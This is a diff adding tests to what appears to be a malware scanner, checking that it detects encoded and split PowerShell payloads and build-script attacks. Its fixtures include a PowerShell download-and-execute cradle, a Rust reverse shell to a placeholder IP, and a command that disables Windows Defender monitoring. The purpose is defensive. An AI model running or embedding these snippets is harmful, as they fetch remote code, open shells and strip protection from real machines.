@@ -97,6 +97,27 @@ describe('scanStatic', () => {
     );
   });
 
+  it('should decode PowerShell -EncodedCommand (UTF-16LE base64), also when cut into quoted pieces', () => {
+    const blob = Buffer.from(
+      "iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
+      'utf16le',
+    ).toString('base64');
+    const ids = (path: string, text: string) => scan(path, text).findings.map((f) => f.rule_id);
+    expect(ids('run.ps1', `powershell -w hidden -enc ${blob}`)).toContain('SG-DROPPER-002');
+    const pieces = `const string S =\n  "${blob.slice(0, 60)}" +\n  "${blob.slice(60)}";\n`;
+    expect(ids('src/Updater.cs', pieces)).toContain('SG-DROPPER-002');
+  });
+
+  it('should read sources of languages without a lexer (Rust, C#, PowerShell modules) as code', () => {
+    const risk = (path: string, text: string) => scan(path, text).risk_level;
+    const rust =
+      'let s = TcpStream::connect("203.0.113.7:4444")?;\nCommand::new("/bin/sh").arg("-i").stdin(unsafe { Stdio::from_raw_fd(s.as_raw_fd()) }).spawn()?;\n';
+    expect(risk('template/build.rs', rust)).toBe('CRITICAL');
+    expect(risk('template/build.txt', rust)).toBe('LOW');
+    expect(risk('Perf/Perf.psm1', 'Set-MpPreference -DisableRealtimeMonitoring $true')).toBe('HIGH');
+    expect(risk('notes/ideas.txt', 'Set-MpPreference -DisableRealtimeMonitoring $true')).not.toBe('HIGH');
+  });
+
   it('should skip binary files', () => {
     const res = scanStatic({
       files: [{ path: 'a.bin', content: Buffer.from([0, 1, 2, 0x63, 0x75, 0x72, 0x6c]) }],
@@ -121,6 +142,8 @@ describe('adversarial inputs', () => {
     ['wrapped lead-ins', 'Open fetch add archive https://x.example/a copy\n'.repeat(MiB / 48)],
     ['exclusion words', 'add defender exclusion '.repeat(MiB / 23)],
     ['continued recipe lines', 'A = $(A)$(A)\n' + '\t$(A) \\\\ \\\n'.repeat(MiB / 10)],
+    ['quoted pieces and spaces', '"' + 'QUJD'.repeat(5) + '"' + ' '.repeat(MiB / 2) + '+'],
+    ['many quoted pieces', ('"' + 'QUJD'.repeat(5) + '" + ').repeat(MiB / 26)],
     [
       'nested step blocks',
       Array.from({ length: MiB / 64 }, (_, i) => ' '.repeat(i % 60) + 'run: |').join('\n'),
